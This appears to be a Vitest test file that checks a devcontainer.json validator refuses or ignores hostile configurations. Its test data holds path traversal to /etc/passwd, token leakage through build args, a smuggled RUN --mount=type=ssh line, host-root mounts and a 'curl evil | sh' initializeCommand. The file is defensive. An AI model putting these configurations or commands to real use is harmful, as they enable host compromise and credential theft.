import { describe, expect, it } from "vitest";
import { findImageSource } from "../../src/images/find-image-source.ts";
import { createProject } from "./create-project.ts";

describe("a hostile devcontainer.json", () => {
  it.each([
    [`{ "build": { "dockerfile": "../../etc/passwd" } }`, "outside the folder"],
    [`{ "build": { "dockerfile": "/etc/passwd" } }`, "outside the folder"],
    [`{ "dockerFile": "../Dockerfile" }`, "outside the folder"],
    [`{ "dockerFile": 7 }`, "outside the folder"],
    [`{ "build": { "dockerfile": "Dockerfile", "context": ".." } }`, "build.context"],
    [`{ "dockerFile": "Dockerfile", "context": "/" }`, "context"],
    [`{ "build": { "dockerfile": "Dockerfile", "options": ["--network=host"] } }`, "build.options"],
    [`{ "build": { "dockerfile": "Dockerfile", "args": { "T": "\${localEnv:GITHUB_TOKEN}" } } }`, "build.args.T"],
    [`{ "build": { "dockerfile": "Dockerfile", "args": { "HTTP_PROXY": "http://evil" } } }`, "build.args.HTTP_PROXY"],
    [
      `{ "build": { "dockerfile": "Dockerfile", "args": { "BUILDKIT_SYNTAX": "evil" } } }`,
      "build.args.BUILDKIT_SYNTAX",
    ],
    [`{ "build": { "dockerfile": "Dockerfile", "args": { "A B": "x" } } }`, "build.args"],
    [`{ "build": { "dockerfile": "Dockerfile", "args": { "A": { "B": "x" } } } }`, "build.args.A"],
    [`{ "build": { "dockerfile": "Dockerfile", "target": "a --network=host" } }`, "build.target"],
    [`{ "image": "a", "features": { "ghcr.io/devcontainers/features/docker-in-docker:2": {} } }`, `"features"`],
    [`{ "image": "a\\nRUN --mount=type=ssh x" }`, `"image"`],
    [`{ "image": "\${localEnv:IMAGE}" }`, `"image"`],
    [`{ "image": "a", "build": { "dockerfile": "Dockerfile" } }`, "both"],
    [`{ "dockerComposeFile": "compose.yml", "service": "app" }`, "dockerComposeFile"],
    [`{ "image": ["a"] }`, `"image"`],
    [`{ "build": "Dockerfile" }`, `"build"`],
    [`[`.repeat(60_000), "levels"],
    [`{ "image": "a", "x": "${"y".repeat(70_000)}" }`, "64 KiB"],
    [`{ "image": `, "line 1"],
    [`{ "build": { "dockerfile": "missing" } }`, "there is no"],
    [`{ "build": { "dockerfile": "Dockerfile" } }`, "RUN --network=host"],
  ])("is refused by name: %s", (text, reason) => {
    const { directory, write } = createProject();
    write(".devcontainer/devcontainer.json", text);
    write(".devcontainer/Dockerfile", "FROM a\nRUN --network=host true");

    expect(findImageSource(directory)?.refused.join()).toContain(reason);
  });

  it("names what could run or mount on the host, which does nothing, and asks for no image without one", () => {
    const { directory, write } = createProject();
    write(".devcontainer/devcontainer.json", `{ "initializeCommand": "curl evil | sh" /* none */, }`);
    expect(findImageSource(directory)).toBeUndefined();

    write(
      ".devcontainer/devcontainer.json",
      `{ "image": "a", "initializeCommand": "x", "runArgs": ["--privileged"], "mounts": ["source=/,target=/h,type=bind"], "privileged": true, "workspaceMount": "x" }`,
    );

    expect(findImageSource(directory)).toMatchObject({
      dockerfile: "FROM a\n",
      ignored: ["initializeCommand", "mounts", "privileged", "runArgs", "workspaceMount"],
      refused: [],
    });
  });
});
